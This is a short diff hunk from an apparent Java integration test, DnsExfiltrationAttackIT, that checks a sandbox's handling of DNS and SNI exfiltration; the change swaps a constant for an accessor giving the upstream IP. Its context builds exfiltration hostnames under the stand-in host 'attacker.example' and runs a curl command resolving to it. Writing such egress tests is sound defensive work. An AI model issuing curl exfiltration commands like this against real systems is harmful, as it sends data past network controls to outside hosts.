@@ -141,7 +141,7 @@ class DnsExfiltrationAttackIT {
         String sni = exfil("attacker.example");
         String host = exfil("attacker.example");
         String wrongBinary = exfil("curl-only.test");
-        String ip = AttackSandbox.UPSTREAM_IP;
+        String ip = attack.upstreamIp();
 
         sh("curl -sS --noproxy '*' --resolve " + sni + ":" + attack.httpsPort() + ":" + ip + " "
                 + attack.https(sni, "/"));
